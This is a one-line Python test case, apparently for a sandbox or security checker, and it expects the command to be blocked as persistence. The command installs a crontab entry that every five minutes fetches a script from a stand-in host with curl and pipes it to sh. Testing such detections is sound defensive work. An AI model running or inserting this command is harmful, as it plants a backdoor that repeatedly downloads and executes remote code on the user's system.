# expect: BLOCKED persistence
import os
os.system('(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://x.example/p | sh") | crontab -')
